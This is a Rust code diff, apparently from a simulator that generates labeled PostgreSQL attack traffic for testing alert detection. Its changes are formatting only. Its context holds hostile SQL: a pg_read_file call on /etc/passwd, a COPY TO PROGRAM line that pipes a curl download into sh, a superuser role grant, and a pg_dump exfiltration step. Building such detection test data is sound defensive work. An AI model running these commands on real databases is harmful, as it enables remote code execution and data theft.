@@ -424,7 +424,9 @@ fn app_statements(rng: &mut Rng, role: &str) -> Vec<String> {
         ("orders", 1) => vec![
             "BEGIN".into(),
             format!("UPDATE orders SET status = 'paid', paid_at = now() WHERE id = {n}"),
-            format!("INSERT INTO audit_log(at, actor, action) VALUES (now(), 'orders', 'paid {n}')"),
+            format!(
+                "INSERT INTO audit_log(at, actor, action) VALUES (now(), 'orders', 'paid {n}')"
+            ),
             "COMMIT".into(),
         ],
         ("orders", 2) => vec![
@@ -513,7 +515,13 @@ pub fn simulate(
                 let work = app_statements(&mut rng, role);
                 acts.push((
                     t,
-                    Act::Work(*rng.pick(home_cloud), role.to_string(), "appdb", "pgx", work),
+                    Act::Work(
+                        *rng.pick(home_cloud),
+                        role.to_string(),
+                        "appdb",
+                        "pgx",
+                        work,
+                    ),
                 ));
                 t += 10 * minute + rng.below(60_000) as i64;
             }
@@ -811,18 +819,42 @@ pub fn simulate(
             "SELECT pg_read_file('/etc/passwd')".into(),
             "COPY (SELECT '') TO PROGRAM 'curl -s http://198.51.100.7/x.sh | sh'".into(),
         ];
-        acts.push((t, Act::Work(src, "postgres".into(), "postgres", "psql", work)));
-        label(AlertType::UnsafeAction, src.to_string(), Some("postgres"), t);
+        acts.push((
+            t,
+            Act::Work(src, "postgres".into(), "postgres", "psql", work),
+        ));
+        label(
+            AlertType::UnsafeAction,
+            src.to_string(),
+            Some("postgres"),
+            t,
+        );
         // An admin's session makes an application role superuser.
         let t = next(&mut rng);
         let work = vec!["ALTER ROLE billing WITH SUPERUSER".into()];
-        acts.push((t, Act::Work(office, "carol".into(), "appdb", "DBeaver 24.1", work)));
-        label(AlertType::PrivilegeEscalation, office.to_string(), Some("carol"), t);
+        acts.push((
+            t,
+            Act::Work(office, "carol".into(), "appdb", "DBeaver 24.1", work),
+        ));
+        label(
+            AlertType::PrivilegeEscalation,
+            office.to_string(),
+            Some("carol"),
+            t,
+        );
         // The billing role's password used to dump the database from elsewhere.
         let t = next(&mut rng);
         let src = *rng.pick(&jp);
-        acts.push((t, Act::Work(src, "billing".into(), "appdb", "pg_dump", dump_statements())));
-        label(AlertType::DataExfiltration, src.to_string(), Some("billing"), t);
+        acts.push((
+            t,
+            Act::Work(src, "billing".into(), "appdb", "pg_dump", dump_statements()),
+        ));
+        label(
+            AlertType::DataExfiltration,
+            src.to_string(),
+            Some("billing"),
+            t,
+        );
 
         acts.sort_by_key(|(t, _)| *t);
         let dir = out.join(&server);
